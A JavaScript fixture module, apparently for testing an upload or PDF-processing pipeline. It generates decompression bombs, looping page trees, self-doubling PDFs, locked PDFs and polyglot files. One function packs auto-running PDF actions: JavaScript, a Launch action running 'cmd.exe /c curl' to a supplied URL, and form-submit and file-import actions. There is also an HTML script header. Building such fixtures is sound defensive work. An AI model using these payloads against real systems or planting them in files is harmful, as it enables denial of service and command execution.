// Files that front desks, broken scanners and attackers upload: bombs, loops, locked and scripted
// PDFs, two types in one file. Each is made here in a few lines, small enough to be understood.
//
// Rule: each says what is wrong with it; whoever uses it says what must come of it.
import { createHash } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';

import { pageOf, pngOf, pngWrite, tiffWrite } from './pictures.mjs';

// ---- bombs --------------------------------------------------------------------------------------

// Rows of zero bytes, far smaller packed than they are: 1000 to 1.
const zeros = (n) => deflateSync(Buffer.alloc(n), { level: 9 });

// A PNG whose header claims w x h; `honest` ones have the pixels too.
export const pngBomb = (w, h, { depth = 8, colour = 0, samples = 1, honest = false } = {}) =>
    pngOf(w, h, depth, colour, honest ? zeros((Math.ceil((w * samples * depth) / 8) + 1) * h) : zeros(1000));

// A good PNG that claims other measures, with a right checksum.
export function pngClaims(png, w, h) {
    const out = Buffer.from(png);
    out.writeUInt32BE(w, 16);
    out.writeUInt32BE(h, 20);
    out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
    return out;
}

// A good JPEG that claims other measures in its frame header.
export function jpegClaims(jpeg, w, h) {
    const out = Buffer.from(jpeg);
    const at = out.indexOf(Buffer.from([0xff, 0xc0]));
    out.writeUInt16BE(h, at + 5);
    out.writeUInt16BE(w, at + 7);
    return out;
}

const small = () => pageOf(64, 64, (x, y) => ((x >> 3) + (y >> 3)) % 2 ? 255 : 0);

export function tiffClaims(w, h) {
    const out = tiffWrite([small()]);
    const ifd = out.readUInt32LE(4);
    out.writeUInt32LE(w, ifd + 10);
    out.writeUInt32LE(h, ifd + 22);
    return out;
}

// ---- TIFF ---------------------------------------------------------------------------------------

export const tiffLoop = (pages) => tiffWrite(Array.from({ length: pages }, small), { loop: true });
export const tiffPages = (pages) => tiffWrite(Array.from({ length: pages }, small));

// ---- PDF ----------------------------------------------------------------------------------------

// A PDF of these objects ("<<...>>" or a Buffer of a whole stream); object 1 is the catalogue.
export function pdf(objects, trailer = '') {
    const parts = [Buffer.from('%PDF-1.7\n')];
    let at = parts[0].length;
    const offsets = objects.map((object, i) => {
        const from = at;
        const part = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
        parts.push(part);
        at += part.length;
        return from;
    });
    const rows = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
    parts.push(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer<</Root 1 0 R/Size ${objects.length + 1}${trailer}>>\nstartxref\n${at}\n%%EOF\n`));
    return Buffer.concat(parts);
}

export const stream = (dict, bytes) =>
    Buffer.concat([Buffer.from(`<<${dict}/Length ${bytes.length}>>stream\n`), bytes, Buffer.from('\nendstream')]);

const escaped = (text) => Buffer.from(text, 'latin1').toString('latin1').replace(/[\\()]/g, '\\$&');

// One page of text lines [x, y from the top, size, text] and rules [x, y, w, h] on US letter, or on the
// part `box` of it; `info` goes into its information dictionary and its metadata.
export function pdfPage(lines, { rules = [], catalog = '', page = '', more = [], info, box = '0 0 612 792' } = {}) {
    const content = [
        ...rules.map(([x, y, w, h]) => `${x} ${792 - y - h} ${w} ${h} re f`),
        ...lines.map(([x, y, size, text]) => `BT /F ${size} Tf ${x} ${792 - y} Td (${escaped(text)}) Tj ET`),
    ].join('\n');
    const about = info
        ? [`<</Title(${escaped(info)})/Author(${escaped(info)})>>`, stream('/Type/Metadata/Subtype/XML', Buffer.from(`<x:xmpmeta>${info}</x:xmpmeta>`))]
        : [];
    const at = 6 + more.length;
    return pdf([
        `<</Type/Catalog/Pages 2 0 R${catalog}${info ? `/Metadata ${at + 1} 0 R` : ''}>>`,
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 5 0 R/Resources<</Font<</F 4 0 R>>>>${page}>>`,
        '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>',
        stream('', Buffer.from(content, 'latin1')),
        ...more,
        ...about,
    ], info ? `/Info ${at} 0 R` : '');
}

// A grey JPEG of w x h pixels as one page of US letter, with the text `layer` (lines as above) over it
// that nobody sees: what a scanner's own OCR leaves.
export const pdfScan = (jpeg, w, h, layer) =>
    pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 6 0 R/Resources<</Font<</F 4 0 R>>/XObject<</I 5 0 R>>>>>>',
        '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>',
        stream(`/Type/XObject/Subtype/Image/Width ${w}/Height ${h}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode`, jpeg),
        stream('', Buffer.from(`q 612 0 0 792 0 0 cm /I Do Q\n${layer.map(([x, y, size, text]) => `BT 3 Tr /F ${size} Tf ${x} ${792 - y} Td (${escaped(text)}) Tj ET`).join('\n')}`, 'latin1')),
    ]);

// A PDF of objects packed in object streams with a packed index (ISO 32000-1, 7.5.7 and 7.5.8): a
// million small objects are a few megabytes.
export function pdfPacked(objects) {
    const EACH = 20_000;
    const streams = Math.ceil(objects.length / EACH);
    const parts = [Buffer.from('%PDF-1.7\n')];
    const index = Buffer.alloc((objects.length + streams + 2) * 9);
    let at = parts[0].length;
    const add = (number, body) => {
        const part = Buffer.concat([Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
        index[number * 9] = 1;
        index.writeUInt32BE(at, number * 9 + 1);
        parts.push(part);
        at += part.length;
    };
    for (let s = 0; s < streams; s++) {
        const mine = objects.slice(s * EACH, (s + 1) * EACH);
        let offset = 0;
        const head = mine.map((o, i) => {
            const number = s * EACH + i + 1;
            index[number * 9] = 2;
            index.writeUInt32BE(objects.length + s + 1, number * 9 + 1);
            index.writeUInt32BE(i, number * 9 + 5);
            const entry = `${number} ${offset} `;
            offset += o.length + 1;
            return entry;
        }).join('');
        add(objects.length + s + 1, stream(`/Type/ObjStm/N ${mine.length}/First ${head.length}/Filter/FlateDecode`, deflateSync(`${head}${mine.join('\n')}\n`)));
    }
    const start = at;
    const last = objects.length + streams + 1;
    index[last * 9] = 1;
    index.writeUInt32BE(start, last * 9 + 1);
    add(last, stream(`/Type/XRef/Size ${last + 1}/W[1 4 4]/Root 1 0 R/Filter/FlateDecode`, deflateSync(index)));
    return Buffer.concat([...parts, Buffer.from(`startxref\n${start}\n%%EOF\n`)]);
}

// A PDF of `count` empty pages.
export const pdfOfPages = (count, box = '0 0 612 792') =>
    pdfPacked([
        '<</Type/Catalog/Pages 2 0 R>>',
        `<</Type/Pages/Count ${count}/Kids[${Array.from({ length: count }, (_, i) => `${i + 3} 0 R`).join(' ')}]>>`,
        ...Array(count).fill(`<</Type/Page/Parent 2 0 R/MediaBox[${box}]>>`),
    ]);

// A page tree whose node is its own child.
export const pdfTreeLoop = () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]>>']);

// Content deflated `times` over: each layer is a thousandth of what it holds.
export function pdfNestedFlate(times, bytes) {
    let data = Buffer.alloc(bytes, 0x20);
    for (let i = 0; i < times; i++) data = deflateSync(data, { level: 9 });
    return pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>',
        stream(`/Filter[${'/FlateDecode'.repeat(times)}]`, data),
    ]);
}

// A page that paints a picture of w x h pixels, packed to almost nothing.
export const pdfPictureBomb = (w, h) =>
    pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 5 0 R/Resources<</XObject<</I 4 0 R>>>>>>',
        stream(`/Type/XObject/Subtype/Image/Width ${w}/Height ${h}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode`, zeros(Math.min(w * h, 300e6))),
        stream('', Buffer.from('612 0 0 792 0 0 cm /I Do')),
    ]);

// A form that draws itself twice, `depth` levels down: 2^depth drawings.
export function pdfDoubling(depth) {
    const forms = Array.from({ length: depth }, (_, i) =>
        stream(`/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X ${i + 6} 0 R>>>>`, Buffer.from(i + 1 < depth ? '/X Do /X Do' : '0 0 9 9 re f')),
    );
    return pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
        stream('', Buffer.from('/X Do')),
        ...forms,
    ]);
}

// A page of `w` x `h` points: a poster.
export const pdfPoster = (w, h) =>
    pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${w} ${h}]>>`]);

// Everything in a PDF that would run, open or fetch something, aimed at `url` and at `file`.
export const pdfActions = (lines, url, file, box) =>
    pdfPage(lines, {
        box,
        catalog: `/OpenAction 6 0 R/AA<</WC 7 0 R/DS 7 0 R>>/URI<</Base(${url})>>/Names<</JavaScript<</Names[(a) 6 0 R]>>/EmbeddedFiles<</Names[(b) 9 0 R]>>>>/AcroForm<</Fields[10 0 R]/XFA(${url})>>`,
        page: '/AA<</O 7 0 R/C 8 0 R>>/Annots[10 0 R 11 0 R 12 0 R]',
        more: [
            `<</S/JavaScript/JS(this.submitForm("${url}/js"\\); app.launchURL("${url}/js2"\\);)>>`,
            `<</S/Launch/F(${file})/Win<</F(cmd.exe)/P(/c curl ${url}/launch)>>/Unix<</F(/bin/sh)/P(-c "touch ${file}")>>>>`,
            `<</S/URI/URI(${url}/uri)>>`,
            `<</Type/Filespec/FS/URL/F(${url}/embedded)>>`,
            `<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[0 0 9 9]/AA<</K 6 0 R/F 6 0 R/V 6 0 R/C 6 0 R>>/A<</S/SubmitForm/F<</FS/URL/F(${url}/submit)>>>>>>`,
            `<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F<</FS/URL/F(${url}/movie)>>>>>>`,
            `<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/ImportData/F(${file})>>>>`,
        ],
    });

function rc4(key, data) {
    const s = Array.from({ length: 256 }, (_, i) => i);
    for (let i = 0, j = 0; i < 256; i++) {
        j = (j + s[i] + key[i % key.length]) & 255;
        [s[i], s[j]] = [s[j], s[i]];
    }
    let [i, j] = [0, 0];
    return Buffer.from(data.map((b) => {
        i = (i + 1) & 255;
        j = (j + s[i]) & 255;
        [s[i], s[j]] = [s[j], s[i]];
        return b ^ s[(s[i] + s[j]) & 255];
    }));
}

// A PDF that needs `password` (ISO 32000-1, 7.6.3: standard handler, revision 2).
export function pdfLocked(password) {
    const pad = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
    const padded = (s) => Buffer.concat([Buffer.from(s), pad]).subarray(0, 32);
    const md5 = (...parts) => createHash('md5').update(Buffer.concat(parts)).digest().subarray(0, 5);
    const id = Buffer.alloc(16, 7);
    const permissions = Buffer.alloc(4);
    permissions.writeInt32LE(-4);
    const owner = rc4(md5(padded('owner')), padded(password));
    const user = rc4(md5(padded(password), owner, permissions, id), pad);
    const hex = id.toString('hex');
    return pdf(
        [
            '<</Type/Catalog/Pages 2 0 R>>',
            '<</Type/Pages/Kids[3 0 R]/Count 1>>',
            '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>',
            `<</Filter/Standard/V 1/R 2/P -4/O<${owner.toString('hex')}>/U<${user.toString('hex')}>>>`,
        ],
        `/Encrypt 4 0 R/ID[<${hex}><${hex}>]`,
    );
}

// ---- two types in one file ----------------------------------------------------------------------

// A PNG with a PDF behind its end: the first bytes decide, so it is the picture.
export const pngThenPdf = (png, other) => Buffer.concat([png, other]);
// A PDF behind a JPEG's head: a PDF reader would take it, the first bytes say JPEG.
export const jpegHeadPdf = (other) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1'), other]);
// A web page in front of a PDF (allowed within the first 1024 bytes of one).
export const htmlThenPdf = (other) => Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), other]);
// A ZIP's first bytes with a picture behind.
export const zipThenPng = (png) => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), png]);

// ---- texts in a picture's metadata --------------------------------------------------------------

export const pngWithText = (page, text, chunk) => pngWrite(page, { extra: [chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1'))] });
